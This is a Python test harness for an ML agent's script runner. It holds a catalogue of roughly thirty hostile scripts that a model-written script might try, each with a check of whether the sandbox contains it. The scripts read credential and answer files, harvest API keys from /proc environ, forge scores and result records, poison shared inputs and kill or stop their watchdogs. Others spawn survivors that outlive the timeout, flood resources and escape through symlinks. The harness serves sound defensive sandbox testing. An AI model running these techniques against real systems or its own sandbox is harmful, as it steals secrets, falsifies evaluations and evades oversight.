"""A catalogue of hostile scripts, and a driver that runs it against the script runner.

Each entry is an attack a model-written script could make (most of them worked against the
old runner), the code, and a check of containment from the ExecResult and the filesystem
afterwards. Every attack gets fresh fixtures: a task folder with ``public/`` and a
``private/answers.csv`` beside it, a run folder with run.json and an earlier script's record
and work folder, and another run's folder, each holding a secret sentinel. The attacks are
written to be harmless when they succeed (hashes instead of contents, uniquely named files
that are removed afterwards, no signals outside the script's own watchdogs).

    python tests/hostile.py --sandbox bwrap     # prints `attack | contained` and the totals
    python tests/hostile.py --sandbox none --json results.json
    python tests/hostile.py --bench             # overhead of a trivial script, bwrap vs none

The driver re-executes itself with a fake GOOGLE_API_KEY in its initial environment (what
/proc/<pid>/environ shows) and a token in its argv, so the environ and process-listing attacks
have something real to find.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import statistics
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from string import Template

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:  # run as a script from anywhere
    sys.path.insert(0, str(ROOT))

from mle_star.tools.execution.runner import GRACE, ExecResult, Limits, ScriptRunner  # noqa: E402
from mle_star.tools.execution.sandbox import probe  # noqa: E402

ROOT_USER = os.geteuid() == 0
LIMITS = Limits(memory_bytes=2 * 1024**3, processes=256, file_size_bytes=64 * 1024**2,
                output_bytes=1024**2, output_file_bytes=1024**2, tmp_bytes=64 * 1024**2)
WATCHDOGS = ("timeout", "bwrap", "setpriv", "prlimit")


@dataclass
class Context:
    """Fresh fixtures for one attack, plus what the checks compare against."""

    mode: str
    base: Path
    runner: ScriptRunner
    token: str  # per attack: put in the argv of processes we must find again
    driver_token: str  # in this driver's argv
    secrets: dict[str, str]
    port: int
    connections: list[bytes]
    home_hashes: set[str]
    host_hashes: set[str]
    before: dict[str, str] = field(default_factory=dict)
    rss_before_kb: int = 0
    hwm_after_kb: int = 0

    @property
    def task(self) -> Path:
        return self.base / "task"

    @property
    def run_dir(self) -> Path:
        return self.base / "run"

    def record(self, name: str) -> Path:
        return self.run_dir / "scripts" / name

    def substitutions(self, name: str) -> dict[str, str]:
        """Values for the attack templates: the paths an informed attacker would try."""
        try:
            ips = sorted({a for a in socket.gethostbyname_ex(socket.gethostname())[2] if not a.startswith("127.")})
        except OSError:
            ips = []
        return {
            "PUBLIC": str(self.task / "public"), "PRIVATE": str(self.task / "private"),
            "RUN_DIR": str(self.run_dir), "RECORD": str(self.record(name)),
            "OTHER_RUN": str(self.base / "other-run"), "HOME_DIR": str(Path.home()),
            "DRIVER_PID": str(os.getpid()), "TOKEN": self.token, "PORT": str(self.port),
            "HOST_IPS": repr(ips), "WATCHDOGS": repr(WATCHDOGS), "SOURCE": str(ROOT),
        }

    def output(self, result: ExecResult) -> str:
        """Everything the script printed that the runner kept (stdout + stderr on disk)."""
        text = ""
        for stream in ("stdout.txt", "stderr.txt"):
            path = Path(result.record_dir) / stream
            if path.is_file() and not path.is_symlink():
                text += path.read_text(errors="replace")
        return text + result.stdout_tail + result.stderr_tail

    def leaked(self, result: ExecResult, *keys: str) -> bool:
        out = self.output(result)
        return any(self.secrets[k] in out for k in keys)

    def survivors(self) -> list[int]:
        """Processes of this attack still alive: its token in argv, or the run's marker in env."""
        key = f"MLE_STAR_EXEC={self.runner.run_key}:".encode()
        found = []
        for entry in os.scandir("/proc"):
            if not entry.name.isdigit() or int(entry.name) == os.getpid():
                continue
            try:
                cmdline = Path(entry.path, "cmdline").read_bytes()
                environ = Path(entry.path, "environ").read_bytes()
                state = Path(entry.path, "stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if state != "Z" and (self.token.encode() in cmdline or key in environ):
                found.append(int(entry.name))
        return found

    def no_survivors(self, wait: float = 2.0) -> bool:
        end = time.monotonic() + wait
        while self.survivors():
            if time.monotonic() > end:
                return False
            time.sleep(0.1)
        return True

    def tree(self, path: Path) -> str:
        """A hash of a folder's names, kinds and contents (symlinks not followed)."""
        digest = hashlib.sha256()
        for dirpath, dirnames, filenames in sorted(os.walk(path)):
            dirnames.sort()
            for name in sorted(filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]):
                full = os.path.join(dirpath, name)
                digest.update(os.path.relpath(full, path).encode())
                if os.path.islink(full):
                    digest.update(b"L" + os.readlink(full).encode())
                elif os.path.isfile(full):
                    digest.update(Path(full).read_bytes())
        return digest.hexdigest()

    def host_token_files(self) -> list[Path]:
        import sysconfig

        names = [Path(d) / f"mle-star-hostile-{self.token}" for d in ("/tmp", "/var/tmp", "/dev/shm")]
        for d in {sysconfig.get_paths()["purelib"], sys.prefix, sys.base_prefix}:
            names.append(Path(d) / f"mle_star_hostile_{self.token}.txt")
        return names

    def cleanup(self) -> None:
        for pid in self.survivors():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        for path in self.host_token_files():
            path.unlink(missing_ok=True)


@dataclass(frozen=True)
class Hostile:
    name: str
    code: str  # a string.Template: $PUBLIC, $PRIVATE, $RUN_DIR, $RECORD, $TOKEN, ... (see substitutions)
    contained: Callable[[ExecResult, Context], bool]
    needs: str = ""  # a precondition for the attack to be meaningful here ("home files")
    in_none: bool = False  # the known outcome with sandbox "none": contained or not
    attack: str = ""
    timeout: float = 20.0
    outputs: tuple[str, ...] = ()

    def code_for(self, ctx: Context) -> str:
        return Template(self.code).substitute(ctx.substitutions(self.name))


def _no_leak(*keys: str) -> Callable[[ExecResult, Context], bool]:
    return lambda r, ctx: not ctx.leaked(r, *keys)


def _no_marker(r: ExecResult, ctx: Context) -> bool:
    return "LEAK:" not in ctx.output(r)


def _unchanged(*names: str) -> Callable[[ExecResult, Context], bool]:
    def check(r: ExecResult, ctx: Context) -> bool:
        return all(ctx.before[n] == _snapshot(ctx)[n] for n in names)
    return check


def _snapshot(ctx: Context) -> dict[str, str]:
    run = ctx.run_dir
    return {
        "public": ctx.tree(ctx.task / "public"),
        "run.json": (run / "run.json").read_text() if (run / "run.json").is_file() else "<gone>",
        "previous": ctx.tree(run / "scripts" / "previous"),
        "final": str((run / "final").exists()),
    }


def _poison_contained(r: ExecResult, ctx: Context) -> bool:
    """A later script must see the pristine inputs, and the sources must be untouched."""
    follow = ctx.runner.run(
        "import hashlib, os\n"
        "for name in sorted(os.listdir('input')):\n"
        "    print(name, hashlib.sha256(open(os.path.join('input', name), 'rb').read()).hexdigest())\n",
        "after_poison")
    public = ctx.task / "public"
    expected = "".join(f"{name} {hashlib.sha256((public / name).read_bytes()).hexdigest()}\n"
                       for name in ("test.csv", "train.csv"))
    return follow.ok and follow.stdout_tail == expected and _unchanged("public")(r, ctx)


def _survivor_contained(r: ExecResult, ctx: Context) -> bool:
    """Nothing of the script may outlive the timeout, nor forge its record afterwards."""
    alive = not ctx.no_survivors(1.5)
    time.sleep(4)  # the survivor would act 3 s after starting
    again = ctx.runner.run(HOSTILE_BY_NAME["setsid_survivor"].code_for(ctx), "setsid_survivor")
    late = (Path(r.workdir) / "late.txt").exists()
    return not alive and not late and again.printed_score != 99.0 and r.timed_out


def _flood_contained(r: ExecResult, ctx: Context) -> bool:
    size = (Path(r.record_dir) / "stdout.txt").stat().st_size
    growth_kb = ctx.hwm_after_kb - ctx.rss_before_kb
    return size <= LIMITS.output_bytes + 200 and r.printed_score == 0.5 and growth_kb < 16 * 1024


def _fifo_contained(r: ExecResult, ctx: Context) -> bool:
    record = Path(r.record_dir)
    regular = all((record / n).is_file() and not (record / n).is_symlink()
                  for n in ("stdout.txt", "stderr.txt", "result.json"))
    return regular and r.duration < 10 and "preds.csv" in r.output_errors and r.printed_score == 0.5


def _refused(*names: str) -> Callable[[ExecResult, Context], bool]:
    def check(r: ExecResult, ctx: Context) -> bool:
        kept = Path(r.record_dir) / "outputs"
        files = [p for p in kept.rglob("*") if p.is_file()] if kept.is_dir() else []
        return all(n in r.output_errors and n not in r.outputs for n in names) and not files
    return check


def _killed_on_time(extra: float) -> Callable[[ExecResult, Context], bool]:
    def check(r: ExecResult, ctx: Context) -> bool:
        limit = HOSTILE_BY_NAME_TIMEOUTS[r.name] + extra
        return r.duration <= limit and not r.ok and ctx.no_survivors()
    return check


def _host_files_absent(r: ExecResult, ctx: Context) -> bool:
    return not any(p.exists() for p in ctx.host_token_files())


HOSTILE: list[Hostile] = [
    Hostile("private_answers", attack="read private/answers.csv beside public/", code="""
import os
paths = ['$PRIVATE/answers.csv', '../private/answers.csv', 'input/../../private/answers.csv']
for entry in os.listdir('input'):
    real = os.path.realpath(os.path.join('input', entry))
    paths.append(os.path.join(os.path.dirname(real), '..', 'private', 'answers.csv'))
for path in paths:
    try:
        print('READ', path, open(path).read())
    except OSError as exc:
        print('no', path, type(exc).__name__)
""", contained=_no_leak("answers")),
    Hostile("forged_score", attack="compute a perfect score from the private answers", code="""
try:
    open('$PRIVATE/answers.csv').read()
    print('Final Validation Performance: 1.0')
except OSError as exc:
    print('could not read the answers:', type(exc).__name__)
""", contained=lambda r, ctx: r.printed_score is None),
    Hostile("etc_passwd", attack="read the host's /etc/passwd, /etc/group, /etc/shadow", code="""
import hashlib
for path in ('/etc/passwd', '/etc/group', '/etc/shadow'):
    try:
        print(path, hashlib.sha256(open(path, 'rb').read()).hexdigest())
    except OSError as exc:
        print(path, type(exc).__name__)
""", contained=lambda r, ctx: not any(h in ctx.output(r) for h in ctx.host_hashes)),
    Hostile("user_home", attack="read files in the user's home", needs="home files", code="""
import hashlib, os
home = '$HOME_DIR'
try:
    names = os.listdir(home)
except OSError as exc:
    names = []
    print('cannot list', home, type(exc).__name__)
for name in names:
    path = os.path.join(home, name)
    try:
        if os.path.isfile(path):
            print(name, hashlib.sha256(open(path, 'rb').read()).hexdigest())
    except OSError:
        pass
""", contained=lambda r, ctx: not any(h in ctx.output(r) for h in ctx.home_hashes)),
    Hostile("other_run", attack="read another run's folder", code="""
import os
for root, dirs, files in os.walk('$OTHER_RUN'):
    for name in files:
        try:
            print(name, open(os.path.join(root, name)).read())
        except OSError:
            pass
""", contained=_no_leak("other")),
    Hostile("own_record", attack="read the run's trusted records, run.json, other work folders", code="""
import glob
for path in ['$RUN_DIR/run.json'] + glob.glob('$RUN_DIR/scripts/*/*') + glob.glob('$RUN_DIR/work/*/*'):
    try:
        print(path, open(path).read()[:2000])
    except OSError:
        pass
""", contained=_no_leak("run.json", "record")),
    Hostile("write_public", attack="write into the task's public data", code="""
for path in ('input/train.csv', '$PUBLIC/train.csv'):
    try:
        with open(path, 'a') as fh:
            fh.write('9,9,9\\n')
        print('appended', path)
    except OSError as exc:
        print('no', path, type(exc).__name__)
try:
    open('$PUBLIC/evil.csv', 'w').write('x')
except OSError as exc:
    print('no create', type(exc).__name__)
""", contained=_unchanged("public")),
    Hostile("write_run_state", attack="write the run's final/, run.json, another record", code="""
import os
for path, text in {'$RUN_DIR/final/submission.csv': 'forged', '$RUN_DIR/run.json': '{"best": 1.0}',
                   '$RUN_DIR/scripts/previous/result.json': '{"printed_score": 1.0}'}.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, 'w').write(text)
        print('wrote', path)
    except OSError as exc:
        print('no', path, type(exc).__name__)
""", contained=_unchanged("run.json", "previous", "final")),
    Hostile("poison_input", attack="poison the shared input/ for later scripts", code="""
import os
for path in ('input/train.csv', 'input/test.csv', 'input/evil.csv'):
    try:
        open(path, 'w').write('poisoned\\n')
        print('wrote', path)
    except OSError as exc:
        print('no', path, type(exc).__name__)
view = '$RUN_DIR/data/views/search'
try:
    os.chmod(view, 0o755)
    os.remove(view + '/train.csv')
    open(view + '/train.csv', 'w').write('poisoned\\n')
    print('replaced the view')
except OSError as exc:
    print('no view', type(exc).__name__)
""", contained=_poison_contained),
    Hostile("tcp_connect", attack="open a TCP connection to a listener on the host", code="""
import socket
for host in ['127.0.0.1'] + $HOST_IPS:
    try:
        sock = socket.create_connection((host, $PORT), timeout=2)
        sock.sendall(b'$TOKEN')
        sock.close()
        print('LEAK: connected to', host)
    except OSError as exc:
        print('no', host, type(exc).__name__)
""", contained=lambda r, ctx: not ctx.connections and _no_marker(r, ctx)),
    Hostile("parent_environ", attack="read API keys from /proc/<agent pid>/environ", code="""
import os
for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['$DRIVER_PID']:
    try:
        env = open(f'/proc/{pid}/environ', 'rb').read()
    except OSError:
        continue
    for item in env.split(b'\\0'):
        if item.startswith(b'GOOGLE_API_KEY='):
            print('found in', pid, item.decode())
print('own', os.environ.get('GOOGLE_API_KEY'))
""", contained=_no_leak("api key")),
    Hostile("host_processes", attack="list the host's processes and their command lines", code="""
import os
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            print(pid, open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' ')[:300].decode(errors='replace'))
        except OSError:
            pass
""", contained=lambda r, ctx: ctx.driver_token not in ctx.output(r)),
    Hostile("setsid_survivor", attack="double-forked setsid child (clean env) outlives the kill, forges result.json",
            timeout=2.0, code='''
import os, sys, time
LATE = """
import json, time
time.sleep(3)
open('late.txt', 'w').write('late')
try:
    path = '$RECORD/result.json'
    data = json.load(open(path))
    data['printed_score'] = 99.0
    open(path, 'w').write(json.dumps(data))
except Exception:
    pass
time.sleep(30)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, '-c', LATE, '$TOKEN'], {})
    os._exit(0)
time.sleep(600)
''', contained=_survivor_contained),
    Hostile("stdout_flood", attack="print 1 GiB to stdout", timeout=120.0, in_none=True, code="""
import sys
chunk = b'x' * (1 << 20)
for _ in range(1024):
    sys.stdout.buffer.write(chunk)
sys.stdout.buffer.flush()
print('\\nFinal Validation Performance: 0.5')
""", contained=_flood_contained),
    Hostile("fifo_records", attack="FIFOs in place of stdout.txt, result.json (work folder and record)",
            in_none=True, outputs=("preds.csv",), code="""
import os
for path in ('stdout.txt', 'stderr.txt', 'result.json', '$RECORD/stdout.txt', '$RECORD/stderr.txt',
             '$RECORD/result.json', 'preds.csv'):
    try:
        if os.path.lexists(path):
            os.remove(path)
        os.mkfifo(path)
        print('fifo', path)
    except OSError as exc:
        print('no', path, type(exc).__name__)
print('Final Validation Performance: 0.5')
""", contained=_fifo_contained),
    Hostile("fork_bomb", attack="try to start 5,000 processes", timeout=90.0, code="""
import os, time
n = 0
try:
    for n in range(1, 5001):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
finally:
    print('processes started:', n, flush=True)
""", contained=lambda r, ctx: r.limit_hit == "processes" and "processes started: 5000" not in ctx.output(r)),
    Hostile("memory_30gb", attack="allocate 30 GB (at once, then touched 256 MiB at a time)", in_none=True,
            code="""
try:
    big = bytearray(30 * 1024**3)
    print('allocated 30 GB at once')
except MemoryError:
    print('30 GB at once refused')
chunks = []
while len(chunks) < 120:
    chunks.append(bytearray(256 * 1024**2))
print('allocated', len(chunks) * 256, 'MiB')
""", contained=lambda r, ctx: (r.limit_hit == "memory" and "MemoryError" in r.error and r.duration < 30
                               and "allocated" not in ctx.output(r).replace("allocated 30 GB at once", "X"))),
    Hostile("output_symlink", attack="declared output is a symlink to /etc/shadow", in_none=True,
            outputs=("submission.csv",), code="""
import os
os.symlink('/etc/shadow', 'submission.csv')
""", contained=_refused("submission.csv")),
    Hostile("output_hardlink", attack="declared output is a hard link to /etc/shadow or the answers",
            in_none=True, outputs=("linked.csv",), code="""
import os
for target in ('/etc/shadow', '/etc/passwd', '$PRIVATE/answers.csv'):
    try:
        os.link(target, 'linked.csv')
        print('linked', target)
        break
    except OSError as exc:
        print('no', target, type(exc).__name__)
""", contained=_refused("linked.csv")),
    Hostile("output_symlink_parent", attack="declared output under a folder that is a symlink (/etc, private/)",
            in_none=True, outputs=("sub/passwd", "priv/answers.csv"), code="""
import os
os.symlink('/etc', 'sub')
os.symlink('$PRIVATE', 'priv')
""", contained=_refused("sub/passwd", "priv/answers.csv")),
    Hostile("output_fifo", attack="declared output is a FIFO", in_none=True, outputs=("preds.csv",), code="""
import os
os.mkfifo('preds.csv')
""", contained=lambda r, ctx: _refused("preds.csv")(r, ctx) and r.duration < 10),
    Hostile("output_huge", attack="declared output larger than output_file_bytes", in_none=True,
            outputs=("big.csv",), code="""
with open('big.csv', 'wb') as fh:
    fh.write(b'1,2\\n' * (3 * 1024**2 // 4))
""", contained=lambda r, ctx: _refused("big.csv")(r, ctx) and "too large" in r.output_errors["big.csv"]),
    Hostile("file_size", attack="write a file larger than the file-size limit (plain and sparse)",
            in_none=True, code="""
import os
try:
    with open('sparse.bin', 'wb') as fh:
        fh.truncate(100 * 1024**3)
    print('sparse 100 GiB file made')
except OSError as exc:
    print('sparse refused', exc)
with open('huge.bin', 'wb') as fh:
    for _ in range(100):
        fh.write(b'\\0' * (1 << 20))
""", contained=lambda r, ctx: (r.limit_hit == "file size"
                               and (Path(r.workdir) / "huge.bin").stat().st_size <= LIMITS.file_size_bytes
                               and "sparse 100 GiB file made" not in ctx.output(r))),
    Hostile("kill_watchdog", attack="SIGKILL its own watchdog and parent processes", timeout=3.0, in_none=True,
            code="""
import os, signal, time
parent = os.getppid()
pid = os.getpid()
while True:
    pid = int(open(f'/proc/{pid}/status').read().split('PPid:')[1].split()[0])
    if pid <= 1 or pid == $DRIVER_PID:
        break
    comm = open(f'/proc/{pid}/comm').read().strip()
    if pid == parent or comm in $WATCHDOGS:
        try:
            os.kill(pid, signal.SIGKILL)
            print('killed', pid, comm, flush=True)
        except OSError as exc:
            print('could not kill', pid, comm, type(exc).__name__, flush=True)
time.sleep(600)
""", contained=_killed_on_time(GRACE + 1.5)),
    Hostile("stop_watchdog", attack="SIGSTOP its own watchdog and parent processes, then hang", timeout=3.0,
            in_none=True, code="""
import os, signal, time
parent = os.getppid()
pid = os.getpid()
while True:
    pid = int(open(f'/proc/{pid}/status').read().split('PPid:')[1].split()[0])
    if pid <= 1 or pid == $DRIVER_PID:
        break
    comm = open(f'/proc/{pid}/comm').read().strip()
    if pid == parent or comm in $WATCHDOGS:
        try:
            os.kill(pid, signal.SIGSTOP)
            print('stopped', pid, comm, flush=True)
        except OSError as exc:
            print('could not stop', pid, comm, type(exc).__name__, flush=True)
time.sleep(600)
""", contained=lambda r, ctx: r.timed_out and _killed_on_time(GRACE + 1.5)(r, ctx)),
    Hostile("sigstop_self", attack="SIGSTOP itself: must still be killed at the timeout", timeout=2.0,
            in_none=True, code="""
import os, signal
print('stopping', flush=True)
os.kill(os.getpid(), signal.SIGSTOP)
""", contained=lambda r, ctx: r.timed_out and _killed_on_time(1.5)(r, ctx)),
    Hostile("host_tmp", attack="write into the host's /tmp, /var/tmp, /dev/shm", code="""
for path in ('/tmp/mle-star-hostile-$TOKEN', '/var/tmp/mle-star-hostile-$TOKEN', '/dev/shm/mle-star-hostile-$TOKEN'):
    try:
        open(path, 'w').write('x')
        print('wrote', path)
    except OSError as exc:
        print('no', path, type(exc).__name__)
""", contained=_host_files_absent),
    Hostile("python_env", attack="write into the Python environment (site-packages, prefixes)", code="""
import sys, sysconfig
for folder in {sysconfig.get_paths()['purelib'], sys.prefix, sys.base_prefix}:
    path = folder + '/mle_star_hostile_$TOKEN.txt'
    try:
        open(path, 'w').write('x')
        print('wrote', path)
    except OSError as exc:
        print('no', path, type(exc).__name__)
""", contained=_host_files_absent),
    Hostile("source_checkout", attack="read or import the mle-star source checkout", code="""
for path in ('$SOURCE/pyproject.toml', '$SOURCE/mle_star/tools/runner.py'):
    try:
        print('LEAK: read', path, len(open(path).read()))
    except OSError as exc:
        print('no', path, type(exc).__name__)
try:
    import mle_star
    print('LEAK: imported mle_star from', mle_star.__file__)
except ImportError as exc:
    print('no import:', exc)
""", contained=_no_marker),
    Hostile("raw_devices", attack="read raw disks, /dev/mem, the kernel log", in_none=not ROOT_USER, code="""
import glob, os
devices = glob.glob('/dev/[sv]d?') + glob.glob('/dev/nvme?n?') + glob.glob('/dev/xvd?')
for dev in sorted(devices) + ['/dev/mem', '/dev/kmsg', '/dev/port']:
    try:
        fd = os.open(dev, os.O_RDONLY | os.O_NONBLOCK)
        data = os.read(fd, 512)
        os.close(fd)
        print('LEAK: read', dev, len(data))
    except OSError as exc:
        print('no', dev, type(exc).__name__)
""", contained=_no_marker),
]
HOSTILE_BY_NAME = {h.name: h for h in HOSTILE}
HOSTILE_BY_NAME_TIMEOUTS = {h.name: h.timeout for h in HOSTILE}


# -- fixtures -----------------------------------------------------------------------------------
def _sha(path: Path) -> str | None:
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except OSError:
        return None


def home_hashes() -> set[str]:
    """Hashes of the readable regular files at the top of the user's home."""
    found = set()
    try:
        for entry in os.scandir(Path.home()):
            if entry.is_file(follow_symlinks=False) and entry.stat().st_size < 1 << 20:
                if (digest := _sha(Path(entry.path))) and entry.stat().st_size > 0:
                    found.add(digest)
    except OSError:
        pass
    return found


def make_fixtures(base: Path) -> dict[str, str]:
    """Task, run and other-run folders, each with a secret; returns the secrets."""
    found = {k: f"{k.upper().replace(' ', '-').replace('.', '-')}-SENTINEL-{secrets.token_hex(8)}"
             for k in ("answers", "other", "run.json", "record")}
    public, private = base / "task" / "public", base / "task" / "private"
    public.mkdir(parents=True)
    private.mkdir()
    (public / "train.csv").write_text("id,x,y\n" + "".join(f"{i},{i * 0.5},{i % 2}\n" for i in range(50)))
    (public / "test.csv").write_text("id,x\n" + "".join(f"{i},{i * 0.5}\n" for i in range(50, 60)))
    (private / "answers.csv").write_text(f"id,y\n50,{found['answers']}\n")
    run = base / "run"
    (run / "scripts" / "previous").mkdir(parents=True)
    (run / "work" / "previous").mkdir(parents=True)
    (run / "run.json").write_text(json.dumps({"secret": found["run.json"]}))
    (run / "scripts" / "previous" / "result.json").write_text(json.dumps({"secret": found["record"]}))
    (run / "work" / "previous" / "notes.txt").write_text(found["record"])
    other = base / "other-run"
    (other / "scripts" / "x").mkdir(parents=True)
    (other / "secret.txt").write_text(found["other"])
    (other / "scripts" / "x" / "result.json").write_text(json.dumps({"secret": found["other"]}))
    return found


def _views(base: Path) -> dict[str, dict[str, str]]:
    public = base / "task" / "public"
    return {"search": {"train.csv": str(public / "train.csv"), "test.csv": str(public / "test.csv")}}


class _Listener:
    """A TCP listener on every host address; records what connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.connections.append(conn.recv(100) or b"<connected>")
            except OSError:
                self.connections.append(b"<connected>")
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


def _vm(key: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1])
    return 0


def run_catalogue(mode: str, workdir: Path, *, only: list[str] | None = None,
                  driver_token: str = "") -> list[dict]:
    """Run every attack (or ``only`` those) with sandbox ``mode``; one outcome dict each."""
    sandbox = probe(mode)  # type: ignore[arg-type]
    listener = _Listener()
    homes, host = home_hashes(), {h for p in ("/etc/passwd", "/etc/group", "/etc/shadow")
                                  if (h := _sha(Path(p)))}
    outcomes = []
    try:
        for hostile in HOSTILE:
            if only and hostile.name not in only:
                continue
            base = workdir / hostile.name
            found = make_fixtures(base)
            found["api key"] = os.environ.get("GOOGLE_API_KEY", "<no key>")
            runner = ScriptRunner(base / "run", _views(base), sandbox=sandbox, timeout=hostile.timeout,
                                  limits=LIMITS, threads=1)
            listener.connections.clear()
            ctx = Context(mode=mode, base=base, runner=runner, token=f"tok{secrets.token_hex(8)}",
                          driver_token=driver_token, secrets=found, port=listener.port,
                          connections=listener.connections, home_hashes=homes, host_hashes=host)
            outcome = {"name": hostile.name, "attack": hostile.attack, "expected_none": hostile.in_none}
            if hostile.needs == "home files" and not homes:
                outcomes.append(outcome | {"contained": None, "detail": "skipped: no readable files in home"})
                continue
            ctx.before = _snapshot(ctx)
            try:
                Path("/proc/self/clear_refs").write_text("5")  # reset the peak RSS (VmHWM)
            except OSError:
                pass
            ctx.rss_before_kb = _vm("VmRSS")
            try:
                result = runner.run(hostile.code_for(ctx), hostile.name, outputs=hostile.outputs)
                ctx.hwm_after_kb = _vm("VmHWM")
                contained = bool(hostile.contained(result, ctx))
                detail = (f"rc={result.returncode} timed_out={result.timed_out} limit={result.limit_hit or '-'} "
                          f"{result.duration:.1f}s")
            except Exception as exc:  # an attack that breaks the runner is not contained
                contained, detail = False, f"runner error: {type(exc).__name__}: {exc}"
            finally:
                ctx.cleanup()
            outcomes.append(outcome | {"contained": contained, "detail": detail})
    finally:
        listener.close()
    return outcomes


def table(outcomes: list[dict], mode: str) -> str:
    width = max(len(o["name"]) for o in outcomes)
    lines = [f"{'attack':<{width}} | contained ({mode})", f"{'-' * width}-|-{'-' * 18}"]
    for o in outcomes:
        mark = {True: "yes", False: "NO", None: "skipped"}[o["contained"]]
        lines.append(f"{o['name']:<{width}} | {mark:<7}  {o['attack']}")
    judged = [o for o in outcomes if o["contained"] is not None]
    lines.append(f"contained {sum(o['contained'] for o in judged)}/{len(judged)} ({mode})")
    return "\n".join(lines)


def bench(workdir: Path, repeats: int = 10) -> dict[str, float]:
    """Median wall time of a trivial script under bwrap and none, interleaved in one run."""
    make_fixtures(workdir)
    runners = {mode: ScriptRunner(workdir / f"run-{mode}", _views(workdir), sandbox=probe(mode),  # type: ignore[arg-type]
                                  timeout=60, limits=LIMITS, threads=1) for mode in ("bwrap", "none")}
    times: dict[str, list[float]] = {mode: [] for mode in runners}
    for i in range(repeats + 1):
        for mode, runner in runners.items():
            start = time.perf_counter()
            result = runner.run("print('Final Validation Performance: 1')\n", "trivial", salt=str(i))
            if i and result.ok:  # the first round warms caches
                times[mode].append(time.perf_counter() - start)
    medians = {mode: statistics.median(values) for mode, values in times.items()}
    return medians | {"ratio": medians["bwrap"] / medians["none"]}


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sandbox", choices=("bwrap", "none"))
    parser.add_argument("--json", type=Path, help="write the outcomes here")
    parser.add_argument("--only", action="append", help="run only this attack (repeatable)")
    parser.add_argument("--workdir", type=Path, help="where fixtures go (default: a temp folder, removed)")
    parser.add_argument("--bench", action="store_true", help="time a trivial script, bwrap vs none")
    parser.add_argument("--token", default="", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if not args.token:  # re-exec: the fake key must be in the initial environment, the token in argv
        token = f"driver{secrets.token_hex(8)}"
        env = dict(os.environ, GOOGLE_API_KEY=f"FAKE-API-KEY-{secrets.token_hex(12)}", OMP_WAIT_POLICY="passive")
        os.execve(sys.executable, [sys.executable, os.path.abspath(__file__), *argv, "--token", token], env)
    workdir = args.workdir or Path(tempfile.mkdtemp(prefix="mle-star-hostile-"))
    workdir.mkdir(parents=True, exist_ok=True)
    try:
        if args.bench:
            print(json.dumps(bench(workdir / "bench"), indent=1))
            return 0
        if not args.sandbox:
            parser.error("--sandbox is required")
        outcomes = run_catalogue(args.sandbox, workdir, only=args.only, driver_token=args.token)
        print(table(outcomes, args.sandbox))
        if args.json:
            args.json.write_text(json.dumps(outcomes, indent=1))
    finally:
        if not args.workdir:
            shutil.rmtree(workdir, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
